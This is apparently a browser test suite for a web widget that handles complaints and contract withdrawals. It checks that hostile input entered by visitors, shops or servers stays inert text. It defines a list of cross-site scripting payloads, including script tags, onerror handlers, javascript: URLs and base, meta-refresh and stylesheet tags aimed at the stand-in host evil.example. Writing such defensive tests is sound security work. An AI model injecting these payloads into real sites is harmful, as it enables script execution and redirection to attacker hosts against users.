// What visitors, shops and pages around the widget put in stays text: nothing of it runs, loads or leads anywhere.
import assert from "node:assert/strict";
import test from "node:test";
import { inBrowsers } from "./browsers.mjs";
import { hostPage, hostPages, shared, start, tag, until } from "./harness.mjs";
import { labels, openByKeyboard, pressButton, readReceipt, withdrawal } from "./journeys.mjs";

// Each would set a mark on the page, open a window or ask the network for something.
const payloads = [
  `<script>window.pwned=1</script>`, `"><img src="https://evil.example/x" onerror="window.pwned=1">`, `' onfocus='window.pwned=1' autofocus='`,
  `</textarea><svg onload="window.pwned=1">`, `</title><script>alert(1)</script>`, `javascript:window.pwned=1//`, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<base href="https://evil.example/">`, `<meta http-equiv="refresh" content="0;https://evil.example/">`, `<style>@import "https://evil.example/x"</style>`,
  `<link rel="stylesheet" href="https://evil.example/x">`, `<template shadowrootmode="open"><img src=x onerror="window.pwned=1"></template>`,
  `<form id="main" action="https://evil.example/"><button name="step" value="send">`, `<math><mi xlink:href="javascript:window.pwned=1">x</mi></math>`, `{{constructor.constructor('window.pwned=1')()}}`,
];

// unharmed asserts that nothing of a payload has come to life.
const unharmed = async (visitor, about) => {
  assert.equal(await visitor.page.evaluate(() => window.pwned), undefined, about + ": a script ran");
  assert.deepEqual(visitor.seen.requests.filter((url) => /^[a-z]+:\/\/evil\.example/.test(url)), [], about + ": something was asked for");
  assert.deepEqual(visitor.opened, [], about + ": a window opened");
};

const guarded = async (browser, t) => {
  const visitor = await browser.visitor(t);
  visitor.opened = [];
  visitor.page.on("dialog", (dialog) => { visitor.opened.push(dialog.message()); dialog.dismiss(); });
  return visitor;
};

inBrowsers("hostile words", (browser) => {
  test("SEC-10: in a declaration they stay text on every page that shows it", async (t) => {
    const program = await start(t), visitor = await guarded(browser(), t);
    const { reference, receipt_url, status_url } = await program.declare({
      form: "complaint", locale: "en-DE", name: payloads[1], contract: payloads[2], product: payloads[0], email: "a@example.com", reason: "late", description: payloads.join("\n"),
    });
    await visitor.goto(program.base + "inbox/");
    await visitor.fill("Benutzername", "owner");
    await visitor.fill("Passwort", await program.password());
    await visitor.leaves(() => visitor.press("Enter"));
    for (const address of ["inbox/", "inbox/?q=" + encodeURIComponent(payloads[1]), "inbox/?show=" + encodeURIComponent(payloads[1]), "inbox/cases/" + reference, receipt_url, status_url]) {
      await visitor.goto(new URL(address, program.base).href);
      await unharmed(visitor, address);
      await visitor.calm();
    }
    await visitor.reads(payloads.join("\n"));
  });

  test("SEC-10: in the form that comes back with its problems, and in its review", async (t) => {
    const program = await shared(), visitor = await guarded(browser(), t);
    await visitor.goto(program.base + "en-DE/complaints/");
    const send = (email) => visitor.leaves(() => visitor.page.evaluate((payloads, email) => {
      const form = document.querySelector("form.rc-form");
      for (const input of form.querySelectorAll("input[type=text], textarea")) input.value = payloads[1];
      form.querySelector("[name=description]").value = payloads.join("\n");
      form.querySelector("[name=subject_line]").value = payloads[2];
      form.querySelector("[name=email]").value = email;
      for (const box of form.querySelectorAll("[name^=received_on]")) box.value = "";
      form.querySelector("[name=reason][value=late]").checked = true;
      form.querySelector("button[value=review]").click();
    }, payloads, email));
    await send(payloads[1]);
    await visitor.sees("group", "There is a problem");
    await unharmed(visitor, "the form");
    await send("a@example.com");
    await visitor.sees("heading", "Check and send your complaint");
    await visitor.reads(payloads.join("\n"));
    await unharmed(visitor, "the review");
    await visitor.calm([/status of 422/]);
  });

  test("SEC-11: in the attributes of the tag they stay text", async (t) => {
    const program = await shared();
    for (const payload of payloads.slice(0, 6)) {
      const visitor = await guarded(browser(), t), value = payload.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
      const all = ["name", "email", "order", "items", "country", "theme", "show", "class", "id"].map((name) => `${name}="${name === "show" ? "withdrawal " : ""}${value}"`);
      const shop = await hostPages(t, { "/": hostPage(tag(program, all.join(" "))) });
      await visitor.goto(shop + "/");
      await openByKeyboard(visitor, withdrawal);
      await visitor.fill(labels.contract, payload);
      await visitor.fill(labels.email, "a@example.com");
      await pressButton(visitor, "Continue");
      await visitor.sees("heading", withdrawal.review);
      await visitor.reads(payload);
      await unharmed(visitor, payload);
    }
  });

  test("SEC-11: in a server's answers they stay text, and links lead to web pages only", async (t) => {
    const program = await shared(), visitor = await guarded(browser(), t);
    const shop = await hostPages(t, { "/": hostPage(tag(program)) });
    await visitor.goto(shop + "/");
    await visitor.page.evaluate((payload) => {
      const real = window.fetch;
      window.fetch = async (to, options) => {
        if (options?.method !== "POST") return real(to, options);
        return new Response(JSON.stringify({ reference: payload, received_at: "2026-11-20T12:03:00Z", status_url: "javascript:window.pwned=1", receipt_url: "javascript:window.pwned=1", emailed: true }),
          { status: 201, headers: { "Content-Type": "application/json" } });
      };
    }, payloads[1]);
    await openByKeyboard(visitor, withdrawal);
    await visitor.fill(labels.name, "Eve");
    await visitor.fill(labels.contract, "1");
    await visitor.fill(labels.email, "eve@example.com");
    await pressButton(visitor, "Continue");
    await pressButton(visitor, withdrawal.send);
    await visitor.reads(payloads[1]);
    await unharmed(visitor, "the receipt");
    const links = await visitor.page.evaluate(() => [...document.querySelectorAll("*")].flatMap((e) => [...e.shadowRoot?.querySelectorAll("a[href]") ?? []]).map((a) => a.href));
    assert.deepEqual(links.filter((href) => !/^(https?|mailto|blob):/.test(href)), []);
  });
});
